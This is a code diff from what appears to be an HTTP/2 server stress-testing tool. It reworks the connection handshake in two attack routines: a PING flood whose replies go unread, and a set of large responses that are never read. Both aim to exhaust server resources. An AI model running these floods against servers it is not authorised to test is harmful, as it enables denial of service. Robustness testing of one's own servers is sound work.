@@ -653,9 +653,11 @@ def _finish(result: AttackResult, conn: H2Conn, started: float, *, linger: float
     return result
 
 
-def _open(endpoint: str, settings: dict[int, int] | None = None, *, window: int = wire.MAX_WINDOW) -> H2Conn:
-    """A connection that has sent its preface and SETTINGS and received the server's."""
-    conn = H2Conn.connect(endpoint)
+def _open(
+    endpoint: str, settings: dict[int, int] | None = None, *, window: int = wire.MAX_WINDOW, rcvbuf: int = 0
+) -> H2Conn:
+    """A connection that has sent its preface and SETTINGS, and received and acknowledged the server's."""
+    conn = H2Conn.connect(endpoint, rcvbuf=rcvbuf)
     if not conn.handshake(time.monotonic() + PREFACE_TIMEOUT, settings, window=window):
         conn.close()
         raise ConnectionError(f"{endpoint}: no SETTINGS from the server within {PREFACE_TIMEOUT:g}s")
@@ -698,14 +700,14 @@ def ping_flood_unread(
     taking them for `stall` s, then reads what came back to see how the connection ended."""
     started = time.monotonic()
     deadline = started + timeout
-    conn = H2Conn.connect(endpoint, rcvbuf=rcvbuf, polite=False)
-    conn.queue(wire.PREFACE + wire.settings_frame(default_settings()) + wire.frame(wire.SETTINGS, wire.ACK, 0))
+    conn = _open(endpoint, rcvbuf=rcvbuf)  # the handshake is read and acknowledged; nothing after it
+    conn.flush(deadline)
+    conn.polite = False
     result = AttackResult("ping flood, replies unread")
-    flood = b"".join(ping_frame(i.to_bytes(8, "big")) for i in range(frames))
-    conn.queue(flood)
+    opening = conn.bytes_written
+    conn.queue(b"".join(ping_frame(i.to_bytes(8, "big")) for i in range(frames)))
     all_out = conn.flush(deadline, read=False, stall=stall)
-    written = max(0, conn.bytes_written - (len(wire.PREFACE) + 2 * wire.HEADER_LEN + 12))
-    result.frames_sent = written // (wire.HEADER_LEN + 8)
+    result.frames_sent = (conn.bytes_written - opening) // (wire.HEADER_LEN + 8)
     result.details["server stopped reading"] = "no" if all_out else "yes"
     conn.polite = True
     conn._out.clear()  # what the server would not take
@@ -1095,10 +1097,9 @@ def unread_responses(
     put_values(endpoint, b"/attack/big/", values, value_size)
     started = time.monotonic()
     deadline = started + timeout
-    conn = H2Conn.connect(endpoint, rcvbuf=65536, polite=False)
-    # We never read, so we acknowledge the server's SETTINGS blindly (it sends them first).
-    conn.start()
-    conn.queue(wire.frame(wire.SETTINGS, wire.ACK, 0))
+    conn = _open(endpoint, rcvbuf=65536)  # the handshake is read and acknowledged; nothing after it
+    conn.flush(deadline)
+    conn.polite = False
     result = AttackResult("big responses never read")
     request = range_request(b"/attack/big/", prefix_end(b"/attack/big/"))
     for _ in range(requests):
